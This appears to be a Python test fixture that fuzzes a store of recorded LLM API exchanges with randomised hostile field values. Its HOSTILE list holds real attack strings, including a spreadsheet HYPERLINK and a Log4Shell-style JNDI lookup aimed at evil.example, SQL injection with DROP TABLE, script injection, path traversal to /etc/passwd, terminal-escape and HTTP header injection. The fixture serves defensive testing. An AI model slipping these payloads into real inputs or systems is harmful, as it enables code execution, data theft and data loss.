"""A record of exchanges that mean harm in every field, as the recorder would bring them."""

from __future__ import annotations

import random
from typing import Any

from app.store.writing.record import Record
from tests.store.samples import NOON_NS, record, talk
from tests.store.talks import exchange

SECOND_NS = 1_000_000_000
HOSTILE = (
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "\u202eevil\u2066\u200f\ufeff",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1)|calc",
    "+1-1",
    "-1\t\r\n",
    "<script>alert(1)</script>]]>--></textarea>",
    "' OR 1=1; DROP TABLE exchanges; --",
    "${jndi:ldap://evil.example/}{{7*7}}%s%n",
    "[red]x[/red] \\u0000 \\ud800",
    "\U0001f4a9\U0010ffff\ufffe é ̷",
    "../../etc/passwd",
    "CON",
    "x" * 5_000,
    "\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK",
    "",
)
RAW = (
    b"\xff\xfe\x00 not text \x80",
    b'{"choices":[{"message":{"content":"\\ud800\\u0000"}}],"id":1e999}',
    b"[" * 3_000,
    b'{"a":' * 2_000,
    b"",
    b'{"id": null, "choices": {}, "usage": [], "output": 7}',
    b"data: {\n\ndata: [DONE]\r\r\n",
    b"\x1f\x8b\x08\x00broken gzip",
)


def hostile_records(count: int, seed: int = 6) -> list[Record]:
    """So many, the same for one seed."""
    choose = random.Random(seed)
    return [_one(choose, NOON_NS + at * SECOND_NS) for at in range(count)]


def _one(choose: random.Random, at_ns: int) -> Record:
    def text() -> str:
        return choose.choice(HOSTILE)

    changes: dict[str, Any] = {
        "project": choose.choice(("default", "other")),
        "model": text() or None,
        "user": text() or None,
        "key": choose.choice((None, "00112233aabbccdd")),
        "tags": {text(): text()},
        "status": choose.choice((200, 200, 200, 200, 200, 404, 599, 101, None)),
        "outcome": choose.choice(("completed", "client_left", "proxy_crashed")),
        "query": text(),
        "finish_reason": text() or None,
        "response_content_type": choose.choice(
            ("application/json", "text/html", "text/event-stream", text()[:200])
        ),
        "response_content_encoding": choose.choice((None, "gzip", "br, zstd", text()[:200])),
    }
    match choose.randrange(4):
        case 0:
            return record(at_ns=at_ns, path="/v1/" + text(), upstream_id=text() or None, **changes)
        case 1:
            path = choose.choice(("/v1/chat/completions", "/v1/responses", "/v1/" + text()))
            return talk(choose.choice(RAW), choose.choice(RAW), at_ns=at_ns, path=path, **changes)
        case 2:
            request = {"model": text(), "input": text(), "metadata": {text(): text()}, "tools": [text()]}
            item = {
                "type": text(),
                "role": text(),
                "id": text(),
                "content": [{"type": "output_text", "text": text()}],
            }
            answer = {
                "id": "resp_" + text(),
                "object": "response",
                "output": [item, text(), None],
                "usage": text(),
            }
            return exchange("/v1/responses", request, answer, at_ns, **changes)
        case _:
            said: list[Any] = [{"role": "user", "content": text()}, {"role": text()}, text()]
            request = {"model": text(), "messages": said}
            call = {"id": text(), "type": "function", "function": {"name": text(), "arguments": text()}}
            message = {"role": "assistant", "content": text(), "tool_calls": [call, None]}
            told = {
                "id": "chatcmpl-" + text(),
                "choices": [{"index": 0, "message": message, "finish_reason": text()}],
            }
            return exchange("/v1/chat/completions", request, told, at_ns, **changes)
